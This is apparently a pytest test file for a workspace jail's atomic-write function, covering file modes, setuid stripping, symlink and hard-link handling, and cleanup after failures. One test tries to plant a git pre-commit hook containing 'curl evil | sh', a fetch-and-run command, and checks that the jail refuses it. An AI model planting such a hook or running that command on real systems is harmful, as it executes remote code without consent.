"""write_atomic: temp file + fsync + rename inside the parent's fd; never a partial file, never outside."""

from __future__ import annotations

import os
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from vtcode.errors import PathDenied
from vtcode.workspace import Jail

pytestmark = pytest.mark.usefixtures("io_mode")


def _leftovers(directory: Path) -> list[str]:
    return [p.name for p in directory.iterdir() if p.name.endswith(".vtcode-tmp")]


def test_creates_a_file_and_returns_its_resolved_path(jail: Jail, workspace: Path) -> None:
    assert jail.write_atomic("a.txt", b"one") == workspace / "a.txt"
    assert (workspace / "a.txt").read_bytes() == b"one"
    assert _leftovers(workspace) == []


def test_replaces_a_file_and_keeps_its_mode(jail: Jail, workspace: Path) -> None:
    target = workspace / "run.sh"
    target.write_text("old")
    target.chmod(0o750)
    jail.write_atomic("run.sh", b"new")
    assert target.read_bytes() == b"new"
    assert stat.S_IMODE(target.stat().st_mode) == 0o750


def test_setuid_bits_are_never_carried_over(jail: Jail, workspace: Path) -> None:
    target = workspace / "tool"
    target.write_text("old")
    target.chmod(0o4755)
    jail.write_atomic("tool", b"new")
    assert stat.S_IMODE(target.stat().st_mode) == 0o755


def test_explicit_mode_and_only_permission_bits(jail: Jail, workspace: Path) -> None:
    jail.write_atomic("k", b"x", mode=0o600)
    assert stat.S_IMODE((workspace / "k").stat().st_mode) == 0o600
    with pytest.raises(ValueError, match="permission bits"):
        jail.write_atomic("k", b"x", mode=0o4755)


def test_new_file_gets_the_umask(jail: Jail, workspace: Path) -> None:
    old = os.umask(0o027)
    try:
        jail.write_atomic("u", b"x")
    finally:
        os.umask(old)
    assert stat.S_IMODE((workspace / "u").stat().st_mode) == 0o640


def test_creates_missing_parent_directories(jail: Jail, workspace: Path) -> None:
    jail.write_atomic("a/b/c/d.txt", b"deep")
    assert (workspace / "a" / "b" / "c" / "d.txt").read_bytes() == b"deep"


def test_parent_creation_refuses_a_symlinked_parent_to_outside(jail: Jail, workspace: Path,
                                                              outside: Path) -> None:
    (workspace / "a").symlink_to(outside)
    with pytest.raises(PathDenied, match="outside"):
        jail.write_atomic("a/new/x.txt", b"x")
    assert not (outside / "new").exists()


def test_write_through_a_link_lands_on_its_target_and_keeps_the_link(jail: Jail, workspace: Path) -> None:
    (workspace / "real.txt").write_text("old")
    (workspace / "alias").symlink_to("real.txt")
    assert jail.write_atomic("alias", b"new") == workspace / "real.txt"
    assert (workspace / "alias").is_symlink()
    assert (workspace / "real.txt").read_bytes() == b"new"


def test_write_through_a_dangling_link_creates_its_target(jail: Jail, workspace: Path) -> None:
    (workspace / "later").symlink_to("made/later.txt")
    jail.write_atomic("later", b"x")
    assert (workspace / "made" / "later.txt").read_bytes() == b"x"


def test_protected_and_root_are_refused(jail: Jail, workspace: Path) -> None:
    with pytest.raises(PathDenied, match="git hook"):
        jail.write_atomic(".git/hooks/pre-commit", b"#!/bin/sh\ncurl evil | sh\n")
    with pytest.raises(PathDenied, match="workspace root"):
        jail.write_atomic(".", b"x")
    assert not (workspace / ".git").exists()


def test_directory_target_is_an_error_and_left_alone(jail: Jail, workspace: Path) -> None:
    (workspace / "dir").mkdir()
    with pytest.raises(IsADirectoryError):
        jail.write_atomic("dir", b"x")
    assert (workspace / "dir").is_dir()
    assert _leftovers(workspace) == []


def test_chunked_data(jail: Jail, workspace: Path) -> None:
    jail.write_atomic("c", (bytes([i]) * 1000 for i in range(5)))
    assert (workspace / "c").read_bytes() == b"".join(bytes([i]) * 1000 for i in range(5))
    with pytest.raises(TypeError, match="not str"):
        jail.write_atomic("c", "text")  # type: ignore[arg-type]


def test_failure_half_way_leaves_the_original_and_no_temp(jail: Jail, workspace: Path) -> None:
    (workspace / "keep.txt").write_text("original")

    def chunks() -> Iterator[bytes]:
        yield b"partial new content"
        raise RuntimeError("producer died")

    with pytest.raises(RuntimeError, match="producer died"):
        jail.write_atomic("keep.txt", chunks())
    assert (workspace / "keep.txt").read_text() == "original"
    assert _leftovers(workspace) == []


CHILD = """
import resource, sys
from pathlib import Path
from vtcode.workspace import Jail
resource.setrlimit(resource.RLIMIT_FSIZE, (1000, 1000))
jail = Jail(Path(sys.argv[1]), home=Path(sys.argv[1]).parent / "home")
try:
    jail.write_atomic("keep.txt", b"y" * 5000)
except OSError as exc:
    print("failed", exc.errno)
"""


def test_file_size_limit_mid_write_leaves_the_original(workspace: Path) -> None:
    # A real write(2) failure (EFBIG under RLIMIT_FSIZE; Python ignores SIGXFSZ), in a child process.
    (workspace / "keep.txt").write_text("original")
    # -I and cwd elsewhere: the child imports the installed vtcode. From the source tree, Python would
    # compile its modules under the 1000-byte limit and leave truncated .pyc files behind (CPython does
    # not check a short write of a .pyc), breaking every later import of the source tree.
    result = subprocess.run([sys.executable, "-I", "-B", "-c", CHILD, str(workspace)], capture_output=True,
                            text=True, check=True, env={**os.environ}, cwd=workspace)
    assert result.stdout.strip() == "failed 27"
    assert (workspace / "keep.txt").read_text() == "original"
    assert _leftovers(workspace) == []


def test_a_hard_link_is_broken_not_written_through(jail: Jail, workspace: Path, outside: Path) -> None:
    # The rename replaces the name; the file the hard link shared (here: outside) keeps its content.
    os.link(outside / "secret.txt", workspace / "shared.txt")
    jail.write_atomic("shared.txt", b"new")
    assert (outside / "secret.txt").read_text() == "outside\n"
    assert (workspace / "shared.txt").read_bytes() == b"new"


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to another user")
def test_root_replacing_a_users_file_keeps_the_owner(jail: Jail, workspace: Path) -> None:
    target = workspace / "theirs.txt"
    target.write_text("old")
    os.chown(target, 65534, 65534)
    jail.write_atomic("theirs.txt", b"new")
    assert (target.stat().st_uid, target.stat().st_gid) == (65534, 65534)
